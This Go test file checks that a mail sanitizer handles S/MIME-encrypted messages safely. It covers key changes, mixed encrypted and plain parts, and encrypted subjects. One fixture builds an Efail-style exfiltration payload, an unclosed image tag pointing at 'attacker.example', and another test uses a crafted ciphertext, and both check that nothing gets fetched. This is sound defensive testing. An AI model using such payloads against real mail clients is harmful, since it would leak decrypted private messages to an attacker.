package sanitize_test

import (
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"time"

	"google.golang.org/protobuf/proto"

	"github.com/postern-mail/postern/pkg/attachment"
	"github.com/postern-mail/postern/pkg/mail"
	"github.com/postern-mail/postern/pkg/reading"
	"github.com/postern-mail/postern/pkg/reading/readingtest"
	"github.com/postern-mail/postern/pkg/seal"
	"github.com/postern-mail/postern/pkg/seal/open"
	"github.com/postern-mail/postern/pkg/signature"
	"github.com/postern-mail/postern/pkg/vault/memory"
	contentv1 "github.com/postern-mail/postern/proto/content/v1"
	mailv1 "github.com/postern-mail/postern/proto/mail/v1"
	"github.com/postern-mail/postern/services/sanitize"
)

// What scan examined is shown, and nothing else: where the company's keys are others by now, it stays closed.
func TestNothingIsShownThatWasEncryptedWhenItWasScanned(t *testing.T) {
	raw := readingtest.Encrypted(t, "gcm.eml")
	company := readingtest.Company(t, readingtest.CompanyFolder(t), time.Now)
	for name, c := range map[string]struct {
		scanned, sanitized bool // with the keys
		text               string
		notices            []string
		state              string
	}{
		"keys all the way":   {true, true, "the secret words", nil, "opened "},
		"none at all":        {false, false, "", []string{"encrypted_mail"}, "closed encrypted_message"},
		"a key came between": {false, true, "", []string{"no_text", "keys_changed"}, "closed encrypted_message"},
		"a key went between": {true, false, "", []string{"no_text", "keys_changed"}, "closed keys_changed"},
	} {
		objects, opener := readingtest.Seal(t, raw)
		desk := func(with bool) *reading.Desk {
			d := reading.NewDesk(objects, reading.DefaultLimits, mail.DefaultLimits)
			if with {
				d.DecryptWith(company)
			}
			return d
		}
		// As scan has it.
		read, err := desk(c.scanned).Read(t.Context(), opener, "scan", "item")
		if err != nil {
			t.Fatal(err)
		}
		report, err := json.Marshal(attachment.Scan(t.Context(), read.Message, attachment.Options{}))
		if err != nil {
			t.Fatal(err)
		}
		plain, err := proto.Marshal(&contentv1.Findings{Sender: []byte(`{}`), Scan: report, Encryption: read.Encrypted()})
		if err != nil {
			t.Fatal(err)
		}
		key, err := opener.Open(t.Context(), open.Ask{})
		if err != nil {
			t.Fatal(err)
		}
		ring, store := newKeyring(t), memory.New()
		if ring.record.Details, err = seal.Under(key.Session, plain); err != nil {
			t.Fatal(err)
		}
		if _, err := sanitize.NewWorker(desk(c.sanitized), opener, ring, store, sanitize.Options{}, time.Now).Sanitize(t.Context(), &mailv1.Archived{Record: ring.record}); err != nil {
			t.Fatal(err)
		}
		var shown contentv1.Message
		if err := proto.Unmarshal(ring.packets(store, view)[1], &shown); err != nil {
			t.Fatal(err)
		}
		state := ""
		for _, piece := range shown.GetEncryption() {
			state += map[bool]string{true: "opened ", false: "closed "}[piece.GetOpened()] + piece.GetReason()
		}
		if strings.TrimSpace(shown.GetText()) != c.text || !slices.Equal(shown.GetNotices(), c.notices) || state != c.state {
			t.Errorf("%s: %q %v %q", name, shown.GetText(), shown.GetNotices(), state)
		}
		// The wrapping of what was opened is no file that anybody wants; what stays closed is one.
		if files := len(shown.GetAttachments()); (files == 0) != (c.text != "") {
			t.Errorf("%s: %d files", name, files)
		}
	}
}

// Words of a stranger beside words that were encrypted are told from them.
func TestEncryptedWordsAmongOthersAreWarnedOf(t *testing.T) {
	sealed := readingtest.Encrypted(t, "gcm.eml")
	inner := sealed[strings.Index(sealed, "Content-Disposition"):]
	mixed := func(text string) string {
		return "From: a@example.com\nSubject: x\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=m\n\n--m\nContent-Type: text/html\n\n" + text + "\n--m\n" + inner + "\n--m--\n"
	}
	keys := readingtest.Company(t, readingtest.CompanyFolder(t), time.Now).Current()
	for raw, want := range map[string]bool{
		sealed: false, mixed(" "): false, mixed(`please answer <img src="https://attacker.example/?`): true, mixed("<p>please answer</p>"): true,
	} {
		msg, _ := signature.Open(t.Context(), mail.Parse([]byte(raw), mail.Limits{}), keys, signature.OpenLimits{}, mail.Limits{})
		shown := sanitize.Render(msg, attachment.Scan(t.Context(), msg, attachment.Options{}), sanitize.Options{})
		if slices.Contains(shown.Notices, sanitize.PartlyEncrypted) != want || !strings.Contains(shown.Text, "the secret words") {
			t.Errorf("%.80q: %v %q", raw, shown.Notices, shown.Text)
		}
		// Efail: an address that takes in what follows it.
		if strings.Contains(shown.HTML, "attacker.example") || shown.HTML != "" && !strings.Contains(shown.HTML, "the secret words") {
			t.Errorf("%s", shown.HTML)
		}
	}
}

// "Efail" (Poddebniak and others, 2018, §4.2), made of a mail that OpenSSL encrypted: its author knows the first block of
// the plaintext, nothing else, and has put an image whose address takes in all that follows before the secret words.
func TestWhatWasWrittenIntoCiphertextFetchesNothing(t *testing.T) {
	keys := readingtest.Company(t, readingtest.CompanyFolder(t), time.Now).Current()
	msg, pieces := signature.Open(t.Context(), mail.Parse([]byte(readingtest.Encrypted(t, "efail.eml")), mail.Limits{}), keys, signature.OpenLimits{}, mail.Limits{})
	if len(pieces) != 1 || !pieces[0].Opened || pieces[0].Reason != signature.WithoutIntegrity {
		t.Fatalf("the attack does not open, so that it proves nothing: %+v", pieces)
	}
	inside := string(msg.Root.Opened[0].Raw)
	if !strings.Contains(inside, `src="http://a/`) || !strings.Contains(inside, "the secret words of somebody else") {
		t.Fatalf("the attack is none: %q", inside)
	}
	shown := sanitize.Render(msg, attachment.Scan(t.Context(), msg, attachment.Options{}), sanitize.Options{})
	for _, fetches := range []string{"http:", "src=", "href=", "url("} {
		if strings.Contains(shown.HTML, fetches) {
			t.Errorf("%q stands in %q", fetches, shown.HTML)
		}
	}
}

// The subject inside is shown where the one outside says nothing, and nothing else is taken from there.
func TestASubjectThatWasEncryptedIsShown(t *testing.T) {
	for name, c := range map[string]struct{ outside, inside, from, want string }{
		"as Thunderbird has it":     {"...", "Subject: =?utf-8?q?K=C3=BCndigung?=\n", "", "Kündigung"},
		"as RFC 9788 has it":        {"[...]", "Subject: my card 4242 4242 4242 4242\n", "From: Boss <boss@example.org>\n", "my card ‹payment_card ··4242 #1›"},
		"as Enigmail had it":        {"Encrypted Message", "Subject: refund\n", "", "refund"},
		"one that says something":   {"hello", "Subject: another\n", "", "hello"},
		"none inside":               {"...", "", "", "..."},
		"nothing inside, and empty": {"", "", "", ""},
	} {
		msg := mail.Parse([]byte("From: a@example.com\nSubject: "+c.outside+"\nContent-Type: application/pkcs7-mime\n\nsealed\n"), mail.Limits{})
		entity := "Content-Type: text/plain\n" + c.from + c.inside + "\nwords\n"
		msg = msg.Open([]mail.Opening{{Part: msg.Root, Form: mail.Entity, Encrypted: true, Content: []byte(entity)}}, mail.Limits{})
		shown := sanitize.Render(msg, attachment.Report{}, sanitize.Options{})
		if shown.Subject != c.want || len(shown.From) != 1 || shown.From[0].Address != "a@example.com" {
			t.Errorf("%s: %q from %v", name, shown.Subject, shown.From)
		}
	}
	// What stands within a signature alone came in the clear: so did a subject in it.
	msg := mail.Parse([]byte("From: a@example.com\nSubject: ...\nContent-Type: application/pkcs7-mime\n\nsigned\n"), mail.Limits{})
	msg = msg.Open([]mail.Opening{{Part: msg.Root, Form: mail.Entity, Content: []byte("Subject: x\n\nwords\n")}}, mail.Limits{})
	if shown := sanitize.Render(msg, attachment.Report{}, sanitize.Options{}); shown.Subject != "..." {
		t.Errorf("%q", shown.Subject)
	}
}
